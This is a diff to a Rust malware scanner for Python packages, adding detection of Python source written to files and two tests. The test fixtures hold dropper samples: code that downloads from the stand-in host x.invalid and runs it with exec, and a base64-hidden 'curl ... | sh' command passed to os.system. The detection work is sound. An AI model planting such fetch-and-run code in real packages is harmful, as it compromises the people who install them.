@@ -39,8 +39,22 @@ pub fn looks_like_python(text: &str) -> bool {
     MARKERS.iter().any(|m| sample.contains(m))
 }
 
+/// `f.write("import os; ...")`: Python source written to a file is a program waiting to be run
+/// (droppers write a script, then start it); analyse it as a layer of this file.
+fn check_written_code(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    if !(qualname.ends_with(".write") || qualname.ends_with(".write_text") || qualname.ends_with(".write_bytes")) {
+        return;
+    }
+    let Some(arg) = call.arguments.args.first() else { return };
+    let Some(text) = checker.fold(arg).and_then(|v| v.as_text()) else { return };
+    if text.len() > 16 && looks_like_python(&text) {
+        checker.push_layer(text, call.range(), format!("Python source written to a file by {qualname}"));
+    }
+}
+
 /// Decoding calls.
 pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    check_written_code(checker, call, qualname);
     let is_marshal = qualname == "marshal.loads";
     if codec_of(qualname).is_none() && !is_marshal && qualname != "codecs.decode" {
         return;
@@ -141,6 +155,18 @@ mod tests {
         assert!(max_severity("p/pkg/__init__.py", code, "WH170") >= 0.5);
         let layered: Vec<_> = findings("p/pkg/__init__.py", code).into_iter().filter(|f| f.path.contains("#layer")).collect();
         assert!(layered.iter().any(|f| f.rule == "WH120"), "{layered:?}");
+    }
+
+    #[test]
+    fn python_written_to_a_file_is_analysed() {
+        let code = "import tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b\"from urllib.request import urlopen;exec(urlopen('https://x.invalid/raw').read())\")\n";
+        assert!(max_severity("p/setup.py", code, "WH110") >= 0.9);
+    }
+
+    #[test]
+    fn multi_step_wrappers_fold() {
+        let code = "import base64, os\ndef b64d(s):\n    b = s.encode('ascii')\n    c = base64.b64decode(b)\n    return c.decode('ascii')\nos.system(b64d('Y3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaA=='))\n";
+        assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
     }
 
     #[test]
